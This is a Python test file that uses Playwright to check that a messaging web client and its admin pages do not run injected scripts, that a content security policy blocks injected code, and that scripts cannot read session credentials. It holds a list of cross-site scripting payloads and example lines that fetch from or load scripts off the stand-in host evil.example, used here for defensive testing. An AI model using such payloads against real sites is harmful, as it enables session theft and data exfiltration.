"""18: the web client and the admin show what people write as text; a strict policy is the second defence."""

from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Page

from tests.browser.conftest import IN_ONE_LOOP, Arrives
from tests.harness.device import PASSWORD, Device
from tests.harness.people import People
from tests.harness.servers import Site
from tests.security.staff import SESSIONS, USERS, Staff
from tests.waiting import DEADLINE

pytestmark = IN_ONE_LOOP


@pytest_asyncio.fixture(loop_scope="session")
async def staff(production: Site) -> AsyncIterator[Staff]:
    """Staff in the event loop of the browser."""
    async with Staff(await People(production).signs_up("root")) as staff:
        yield staff


@pytest.fixture
def site(production: Site) -> Site:
    """The site that visitors open; the web client is the same for every profile."""
    return production


MARK = "window.injected=1"
ATTACKS = [
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg/onload={MARK}>",
    f'"><input autofocus onfocus={MARK}>',
    f"javascript:{MARK}",
    f"{{{{constructor.constructor('{MARK}')()}}}}",
    f"</title></textarea></script><script>{MARK}</script>",
    f"<b x-data x-init='{MARK}' @click='{MARK}'>alpine</b>",
]
NAME = f"<svg/onload={MARK}>"


async def attack_everywhere(eve: Device, ana: Device) -> Any:
    """Put every attack into each text that another person sees; return the group."""
    await eve.patches("/users/me", {"display_name": NAME, "about": "".join(ATTACKS)[:500]})
    group = await eve.gathers(ana, name=ATTACKS[0])
    await eve.patches(f"/conversations/{group['id']}", {"description": "".join(ATTACKS)})
    for attack in ATTACKS:
        await eve.posts("/messages", {"conversation_id": group["id"], "content": attack, "metadata": {attack: attack}})
    location = {"latitude": 1, "longitude": 1, "label": ATTACKS[1]}
    where = {"conversation_id": group["id"], "message_type": "location", "metadata": location}
    await eve.posts("/messages", where)
    await eve.posts("/auth/login", {"username": eve.username, "password": PASSWORD, "device_name": ATTACKS[1]})
    return group


async def nothing_ran_in(page: Page) -> None:
    assert await page.evaluate("window.injected") is None
    assert await page.locator("[onerror], [onload], [onfocus], img[src=x]").count() == 0


async def test_injected_scripts_do_not_run_in_the_web_client(production: Site, arrives: Arrives) -> None:
    async with People(production)("eve", "ana", connected=False) as (eve, ana):
        await attack_everywhere(eve, ana)
        at_ana = await arrives(ana.server.port)
        await at_ana.signs_in(ana)
        await at_ana.opens(ATTACKS[0])
        for attack in ATTACKS:
            await at_ana.sees(attack)
        await at_ana.page.get_by_role("button", name="Details").or_(at_ana.page.locator(".header-name")).first.click()
        await nothing_ran_in(at_ana.page)


async def test_injected_scripts_do_not_run_in_the_admin(production: Site, staff: Staff, arrives: Arrives) -> None:
    async with People(production)("eve", "ana", connected=False) as (eve, ana):
        group = await attack_everywhere(eve, ana)
        message = await eve.posts("/messages", {"conversation_id": group["id"], "content": "".join(ATTACKS)})
        visitor = await arrives(staff.person.server.port)
        page = visitor.page
        await page.goto("/admin/")
        await page.locator("[name=username]").fill(staff.person.username)
        await page.locator("[name=password]").fill(PASSWORD)
        await page.locator("[name=password]").press("Enter")
        await page.wait_for_url("**/admin/", wait_until="commit")
        for address in (
            USERS,
            f"{USERS}{eve.id}/change/",
            f"{USERS}?q={ATTACKS[1]}",
            SESSIONS,
            "/admin/conversations/conversation/",
            f"/admin/conversations/conversation/{group['id']}/change/",
            "/admin/conversations/participant/",
            "/admin/messaging/message/",
            f"/admin/messaging/message/{message['id']}/change/",
            "/admin/",
        ):
            answer = await page.goto(address)
            assert answer is not None
            assert answer.status == 200, address
            await nothing_ran_in(page)


# Code that a hole in the client would run, and the directive that blocks it.
INJECTED = {
    "const s = document.createElement('script'); s.textContent = 'window.injected=1'; document.body.append(s)": (
        "script-src-elem"
    ),
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.injected=1>')": "script-src-attr",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)": (
        "script-src-elem"
    ),
    "const s = document.createElement('script'); s.src = 'data:,window.injected=1'; document.body.append(s)": (
        "script-src-elem"
    ),
    "document.body.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')": "base-uri",
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/></iframe>')": "frame-src",
    "document.body.insertAdjacentHTML('beforeend', '<object data=https://evil.example/></object>')": "object-src",
    "fetch('https://evil.example/?stolen')": "connect-src",
    "new WebSocket('wss://evil.example/')": "connect-src",
}
RUN_AND_REPORT = """within => new Promise(done => {
    addEventListener('securitypolicyviolation', event => done(event.effectiveDirective), { once: true });
    setTimeout(done, within, 'nothing was blocked');
    try { CODE } catch {}
})"""


async def test_the_policy_blocks_code_injected_into_the_page(production: Site, arrives: Arrives) -> None:
    """The second defence: the test injects code as if the client had a hole."""
    visitor = await arrives(production.servers[0].port)
    visitor.is_attacked = True
    for code, directive in INJECTED.items():
        blocked = await visitor.page.evaluate(RUN_AND_REPORT.replace("CODE", code), DEADLINE * 1_000)
        assert blocked == directive, code
        assert await visitor.page.evaluate("window.injected") is None, code


async def test_a_script_cannot_read_any_credential(production: Site, arrives: Arrives) -> None:
    """The session is an HttpOnly cookie; no store that a script can read has a token."""
    async with People(production)("ana", "ben", connected=False) as (ana, ben):
        await ana.talks_to(ben)
        visitor = await arrives(ana.server.port)
        await visitor.signs_in(ana)
        await visitor.opens("Ben")
        await visitor.writes("hello")
        await visitor.lets_the_cache_be_written()
        (session,) = [each for each in await visitor.context.cookies() if each["name"] == "sessionid"]
        assert session["httpOnly"]
        readable = await visitor.page.evaluate(
            """async () => {
              const databases = await indexedDB.databases();
              const open = (name) => new Promise((done, fail) => {
                const request = indexedDB.open(name);
                request.onsuccess = () => done(request.result);
                request.onerror = fail;
              });
              const all = (store) => new Promise((done) => {
                store.getAll().onsuccess = (event) => done(event.target.result);
              });
              const rows = [];
              for (const { name } of databases) {
                const database = await open(name);
                for (const store of database.objectStoreNames)
                  rows.push(await all(database.transaction(store).objectStore(store)));
              }
              return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, rows]);
            }"""
        )
        assert ana.id in readable, "the script does not read the stores"
        assert session["value"] not in readable
        assert PASSWORD not in readable
        assert "token" not in readable.replace("csrftoken", "")
